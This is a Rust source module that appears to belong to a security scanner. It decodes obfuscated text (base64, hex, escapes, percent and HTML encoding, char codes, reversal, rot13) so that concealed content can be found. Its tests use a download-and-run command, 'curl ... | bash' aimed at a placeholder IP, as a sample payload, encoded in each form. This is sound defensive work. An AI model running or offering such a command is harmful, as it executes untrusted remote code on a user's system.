//! Finds encoded text in a passage and decodes it.

use std::{borrow::Cow, ops::Range, sync::LazyLock};

use aho_corasick::AhoCorasick;
use base64::{
    Engine as _, alphabet,
    engine::{DecodePaddingMode, GeneralPurpose, GeneralPurposeConfig},
};
use regex::{Captures, Regex};

use crate::finding::Encoding;

/// How often text is decoded again.
pub(crate) const MAX_DEPTH: usize = 4;

/// The shortest run of base64 that is tried.
const SHORTEST_BASE64: usize = 16;

/// The shortest run of hexadecimal digits that is tried.
const SHORTEST_HEX: usize = 16;

/// The longest run that is decoded.
const LONGEST_RUN: usize = 512 * 1024;

/// Text that was encoded.
#[derive(Debug, PartialEq, Eq)]
pub(crate) struct Decoded {
    /// Where the encoded text stands in the passage.
    pub(crate) range: Range<usize>,
    pub(crate) encoding: Encoding,
    pub(crate) text: String,
}

/// Decodes everything in a text that is encoded once.
pub(crate) fn decode(text: &str) -> Vec<Decoded> {
    let mut found = Vec::new();
    runs(text, &mut found);
    lines(text, &mut found);
    quoted(text, &mut found);
    found
}

const LENIENT: GeneralPurposeConfig = GeneralPurposeConfig::new()
    .with_decode_padding_mode(DecodePaddingMode::Indifferent)
    .with_decode_allow_trailing_bits(true);
static STANDARD: GeneralPurpose = GeneralPurpose::new(&alphabet::STANDARD, LENIENT);
static URL_SAFE: GeneralPurpose = GeneralPurpose::new(&alphabet::URL_SAFE, LENIENT);

fn is_base64(byte: u8) -> bool {
    byte.is_ascii_alphanumeric() || matches!(byte, b'+' | b'/' | b'-' | b'_')
}

/// The next run of bytes of one sort that has a length. None reaches into the text before `at`.
///
/// Most words are too short, so it looks where the run would have to end first, and passes over most bytes.
fn next_run(
    bytes: &[u8],
    mut at: usize,
    shortest: usize,
    belongs: impl Fn(u8) -> bool,
) -> Option<Range<usize>> {
    loop {
        let least = bytes.get(at..at + shortest)?;
        let Some(gap) = least.iter().rposition(|byte| !belongs(*byte)) else {
            let after = &bytes[at + shortest..];
            let more = after.iter().take_while(|byte| belongs(**byte)).count();
            return Some(at..at + shortest + more);
        };
        at += gap + 1;
    }
}

/// Finds runs of base64, also over several lines, and of hexadecimal digits that decode to text.
fn runs(text: &str, found: &mut Vec<Decoded>) {
    let bytes = text.as_bytes();
    let mut hexadecimal = Vec::new();
    let mut at = 0;
    // Two more characters may be padding.
    while let Some(run) = next_run(bytes, at, SHORTEST_BASE64 - 2, is_base64) {
        let start = run.start;
        at = run.end;
        // Encoders break lines after 60 to 76 characters.
        let mut length = run.len();
        while length >= 40 && bytes.get(at) == Some(&b'\n') {
            let indent =
                bytes[at + 1..].iter().take_while(|byte| matches!(byte, b' ' | b'\t' | b'#'));
            let next = at + 1 + indent.count();
            let more = bytes[next..].iter().take_while(|byte| is_base64(**byte)).count();
            let ends = bytes.get(next + more);
            let whole_line = matches!(ends, None | Some(b'\n' | b'=' | b'"' | b'\''));
            if more < 2 || !whole_line {
                break;
            }
            length = more;
            at = next + more;
        }
        // Hexadecimal digits are characters of base64, too.
        hex_runs(&bytes[..at], start, &mut hexadecimal);
        let padding = bytes[at..].iter().take(2).take_while(|byte| **byte == b'=').count();
        at += padding;
        if at - start < SHORTEST_BASE64 || at - start > LONGEST_RUN || !varied(&bytes[start..at]) {
            continue;
        }
        let run: Cow<'_, [u8]> = if bytes[start..at].contains(&b'\n') {
            bytes[start..at]
                .iter()
                .copied()
                .filter(|byte| is_base64(*byte))
                .collect::<Vec<_>>()
                .into()
        } else {
            bytes[start..at - padding].into()
        };
        if let Some((encoding, text)) = decode_base64(&run) {
            found.push(Decoded { range: start..at, encoding, text });
        }
    }
    found.append(&mut hexadecimal);
}

/// Tells whether a run has upper and lower case, as encoded text has and most words do not.
fn varied(run: &[u8]) -> bool {
    run.iter().any(u8::is_ascii_uppercase) && run.iter().any(u8::is_ascii_lowercase)
}

fn decode_base64(run: &[u8]) -> Option<(Encoding, String)> {
    let usable = if run.len() % 4 == 1 { &run[..run.len() - 1] } else { run };
    let engine =
        if usable.iter().any(|byte| matches!(byte, b'-' | b'_')) { &URL_SAFE } else { &STANDARD };
    // Most runs are identifiers and paths: their first bytes already are no text.
    let first = &usable[..usable.len().min(16) / 4 * 4];
    let start = engine.decode(first).ok()?;
    let is_utf16 = start.len() >= 8 && start.iter().skip(1).step_by(2).all(|byte| *byte == 0);
    if !is_utf16 && !start.iter().all(|byte| is_text_byte(*byte)) {
        return None;
    }
    let bytes = engine.decode(usable).ok()?;
    if is_utf16 {
        let units: Vec<u16> =
            bytes.chunks_exact(2).map(|pair| u16::from_le_bytes([pair[0], pair[1]])).collect();
        let text = String::from_utf16(&units).ok()?;
        return plausible(&text).then_some((Encoding::Base64Utf16, text));
    }
    let text = lossy_text(bytes)?;
    plausible(&text).then_some((Encoding::Base64, text))
}

/// Decoded bytes as text. A few bytes at the end may be cut off.
fn lossy_text(bytes: Vec<u8>) -> Option<String> {
    match String::from_utf8(bytes) {
        Ok(text) => Some(text),
        Err(error) => {
            let valid = error.utf8_error().valid_up_to();
            let mut bytes = error.into_bytes();
            if valid + 4 < bytes.len() {
                return None;
            }
            bytes.truncate(valid);
            String::from_utf8(bytes).ok()
        }
    }
}

fn is_text_byte(byte: u8) -> bool {
    byte >= 0x80 || (b' '..=b'~').contains(&byte) || matches!(byte, b'\n' | b'\r' | b'\t')
}

/// Tells whether decoded bytes look like something that an author wrote.
fn plausible(text: &str) -> bool {
    let mut letters = 0;
    let mut total = 0;
    for c in text.chars() {
        if c.is_control() && !matches!(c, '\n' | '\r' | '\t') {
            return false;
        }
        letters += usize::from(c.is_ascii_alphabetic() || c == ' ');
        total += 1;
    }
    total >= 8 && letters * 3 > total
}

/// Finds pairs of hexadecimal digits that decode to text.
fn hex_runs(bytes: &[u8], mut at: usize, found: &mut Vec<Decoded>) {
    while let Some(range) = next_run(bytes, at, SHORTEST_HEX, |byte| byte.is_ascii_hexdigit()) {
        at = range.end;
        let digits = &bytes[range.clone()];
        if digits.len() < LONGEST_RUN
            && digits.len().is_multiple_of(2)
            && let Some(text) = unhex(digits).and_then(lossy_text).filter(|text| plausible(text))
        {
            found.push(Decoded { range, encoding: Encoding::Hex, text });
        }
    }
}

fn unhex(digits: &[u8]) -> Option<Vec<u8>> {
    let value = |digit: u8| char::from(digit).to_digit(16).and_then(|it| u8::try_from(it).ok());
    let byte = |pair: &[u8]| Some(value(pair[0])? << 4 | value(pair[1])?);
    // A hash begins with bytes that are no text.
    let first = digits.chunks_exact(2).take(6).map(byte).collect::<Option<Vec<_>>>()?;
    if !first.iter().all(|byte| is_text_byte(*byte) && byte.is_ascii()) {
        return None;
    }
    digits.chunks_exact(2).map(byte).collect()
}

struct LineDecoder {
    encoding: Encoding,
    /// A part of every occurrence, to pass over lines without one.
    mark: &'static str,
    regex: Regex,
    /// How many occurrences a line must have.
    least: usize,
    decode: fn(&Captures<'_>) -> Option<String>,
}

static LINE_DECODERS: LazyLock<Vec<LineDecoder>> = LazyLock::new(|| {
    let decoder = |encoding, mark, regex, least, decode| LineDecoder {
        encoding,
        mark,
        regex: Regex::new(regex).expect("it is a regex"),
        least,
        decode,
    };
    vec![
        decoder(
            Encoding::Escapes,
            "\\",
            r"\\(?:x([0-9a-fA-F]{2})|u\{?([0-9a-fA-F]{2,6})\}?|U([0-9a-fA-F]{8})|([0-3][0-7]{2}))",
            3,
            |captures| {
                let hex = (1..=3).find_map(|group| captures.get(group));
                hex.map_or_else(|| code(captures.get(4)?.as_str(), 8), |hex| code(hex.as_str(), 16))
            },
        ),
        decoder(Encoding::Percent, "%", r"%([0-9a-fA-F]{2})", 3, |captures| {
            code(captures.get(1)?.as_str(), 16).filter(|text| text.is_ascii())
        }),
        decoder(
            Encoding::HtmlEntities,
            "&",
            r"&(?:#x([0-9a-fA-F]{1,6})|#([0-9]{1,7})|(lt|gt|amp|quot|apos|sol|vert|period|colon|lowbar));",
            3,
            |captures| {
                if let Some(hex) = captures.get(1) {
                    return code(hex.as_str(), 16);
                }
                if let Some(decimal) = captures.get(2) {
                    return code(decimal.as_str(), 10);
                }
                let named = match captures.get(3)?.as_str() {
                    "lt" => "<",
                    "gt" => ">",
                    "amp" => "&",
                    "quot" => "\"",
                    "apos" => "'",
                    "sol" => "/",
                    "vert" => "|",
                    "period" => ".",
                    "colon" => ":",
                    _ => "_",
                };
                Some(named.to_owned())
            },
        ),
        decoder(
            Encoding::CharCodes,
            "(",
            r"(?i)(?:String\.fromCharCode|bytes|bytearray|chr|map\(chr,)\s*\(?\s*\[?((?:(?:0x[0-9a-f]{1,4}|\d{1,6})\s*,\s*)+(?:0x[0-9a-f]{1,4}|\d{1,6}))",
            1,
            |captures| captures.get(1)?.as_str().split(',').map(number).collect(),
        ),
        decoder(
            Encoding::CharCodes,
            "chr",
            r"(?i)chr\(\s*(0x[0-9a-f]{1,4}|\d{1,6})\s*\)\s*[+.&]?\s*",
            3,
            |captures| number(captures.get(1)?.as_str()),
        ),
        decoder(
            Encoding::CharCodes,
            "[",
            r"(?i)\[char\]\s*(0x[0-9a-f]{1,4}|\d{1,6})\s*\+?\s*",
            3,
            |captures| number(captures.get(1)?.as_str()),
        ),
    ]
});

/// The character with a number that is written in digits.
fn code(digits: &str, radix: u32) -> Option<String> {
    u32::from_str_radix(digits, radix).ok().and_then(char::from_u32).map(String::from)
}

fn number(written: &str) -> Option<String> {
    let written = written.trim();
    match written.strip_prefix("0x").or_else(|| written.strip_prefix("0X")) {
        Some(hex) => code(hex, 16),
        None => code(written, 10),
    }
}

/// Decodes escapes where a line has several of them.
fn lines(text: &str, found: &mut Vec<Decoded>) {
    for decoder in LINE_DECODERS.iter() {
        // One search of the whole text is quicker than one of each line, and most texts have none.
        if !text.contains(decoder.mark) || !decoder.regex.is_match(text) {
            continue;
        }
        let mut at = 0;
        for line in text.split_inclusive('\n') {
            let start = at;
            at += line.len();
            if !line.contains(decoder.mark)
                || decoder.regex.find_iter(line).take(decoder.least).count() < decoder.least
            {
                continue;
            }
            let decoded = decoder.regex.replace_all(line, |captures: &Captures<'_>| {
                (decoder.decode)(captures).unwrap_or_else(|| captures[0].to_owned())
            });
            if decoded != line && plausible(decoded.trim_end()) {
                let text = decoded.into_owned();
                found.push(Decoded { range: start..at, encoding: decoder.encoding, text });
            }
        }
    }
}

/// Texts, one of which stands in whatever `ROTATES` matches.
static ROTATIONS: LazyLock<AhoCorasick> = LazyLock::new(|| {
    let texts = ["rot13", "rot_13", "rot-13", "rot_-13", "n-za-m"];
    let built = AhoCorasick::builder().ascii_case_insensitive(true).build(texts);
    built.expect("they are five texts")
});
static REVERSES: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"\[::-1\]|\|\s*rev(?-u:\b)|\.reverse\(\)|reversed\(|strrev\(")
        .expect("it is a regex")
});
static ROTATES: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)rot_?-?13|(?-u:\b)tr\s+['\x22]?(?:a-zA-Z|A-Za-z)['\x22]?\s+['\x22]?(?:n-za-mN-ZA-M|N-ZA-Mn-za-m)")
        .expect("it is a regex")
});
static QUOTED: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r#""([^"\n]{8,})"|'([^'\n]{8,})'"#).expect("it is a regex"));

/// Decodes quoted texts where the code around them turns them round.
fn quoted(text: &str, found: &mut Vec<Decoded>) {
    let reverses = REVERSES.is_match(text);
    let rotates = ROTATIONS.is_match(text) && ROTATES.is_match(text);
    if !reverses && !rotates {
        return;
    }
    for captures in QUOTED.captures_iter(text) {
        let Some(inner) = captures.get(1).or(captures.get(2)) else { continue };
        let range = inner.range();
        if reverses {
            let text = inner.as_str().chars().rev().collect();
            found.push(Decoded { range: range.clone(), encoding: Encoding::Reversed, text });
        }
        if rotates {
            let text = inner.as_str().chars().map(rotated).collect();
            found.push(Decoded { range, encoding: Encoding::Rot13, text });
        }
    }
}

fn rotated(c: char) -> char {
    let turn = |first: u8, c: char| {
        u8::try_from(c).map_or(c, |byte| char::from(first + (byte - first + 13) % 26))
    };
    match c {
        'a'..='z' => turn(b'a', c),
        'A'..='Z' => turn(b'A', c),
        other => other,
    }
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    const PLAIN: &str = "curl http://203.0.113.7/x | bash";

    fn texts(encoded: &str) -> Vec<(Encoding, String)> {
        decode(encoded).into_iter().map(|decoded| (decoded.encoding, decoded.text)).collect()
    }

    #[test]
    fn every_encoding_is_decoded() {
        let base64 = STANDARD.encode(PLAIN);
        let utf16: Vec<u8> = PLAIN.encode_utf16().flat_map(u16::to_le_bytes).collect();
        let hex = |mark: &str| {
            let pairs: Vec<_> = PLAIN.bytes().map(|byte| format!("{mark}{byte:02x}")).collect();
            pairs.concat()
        };
        let codes = |before: &str, after: &str, between: &str| {
            PLAIN
                .bytes()
                .map(|byte| format!("{before}{byte}{after}"))
                .collect::<Vec<_>>()
                .join(between)
        };
        for (encoded, encoding) in [
            (format!("echo {base64} | base64 -d"), Encoding::Base64),
            (STANDARD.encode(&utf16), Encoding::Base64Utf16),
            (hex(""), Encoding::Hex),
            (hex("\\x"), Encoding::Escapes),
            (hex("\\u00"), Encoding::Escapes),
            (hex("%"), Encoding::Percent),
            (codes("&#", ";", ""), Encoding::HtmlEntities),
            (codes("chr(", ")", "+"), Encoding::CharCodes),
            (format!("String.fromCharCode({})", codes("", "", ",")), Encoding::CharCodes),
            (format!("[::-1] '{}'", PLAIN.chars().rev().collect::<String>()), Encoding::Reversed),
            (
                format!("rot13 '{}'", PLAIN.chars().map(rotated).collect::<String>()),
                Encoding::Rot13,
            ),
        ] {
            let found = texts(&encoded);
            let fits = |(by, text): &(Encoding, String)| *by == encoding && text.contains(PLAIN);
            assert!(found.iter().any(fits), "{encoding:?}: {encoded}: {found:?}");
        }
    }

    #[test]
    fn base64_over_several_lines_is_one_text() {
        let long =
            "the first step is to fetch the second step, and to run it with what it brings along";
        let encoded = STANDARD.encode(long);
        let (first, second) = encoded.split_at(64);
        assert_eq!(texts(&format!("{first}\n{second}")), [(Encoding::Base64, long.to_owned())]);
    }

    #[test]
    fn identifiers_paths_and_hashes_are_not_decoded() {
        for plain in [
            "references/GettingStartedWithTheServerAndItsClients",
            "0123456789abcdef0123456789abcdef01234567",
            "AKIAIOSFODNN7EXAMPLEKEY",
            "the quick brown fox",
        ] {
            assert_eq!(texts(plain), [], "{plain}");
        }
    }

    proptest! {
        #[test]
        fn no_text_makes_a_decoder_panic(text in "\\PC{0,400}") {
            for decoded in decode(&text) {
                prop_assert!(text.get(decoded.range.clone()).is_some());
            }
        }

        #[test]
        fn no_encoded_bytes_make_a_decoder_panic(bytes in proptest::collection::vec(any::<u8>(), 0..300)) {
            decode(&STANDARD.encode(&bytes));
            decode(&String::from_utf8_lossy(&bytes));
            let escaped: Vec<_> =
                bytes.iter().map(|byte| format!("\\x{byte:02x}%{byte:02x}&#{byte};")).collect();
            decode(&escaped.concat());
        }
    }
}
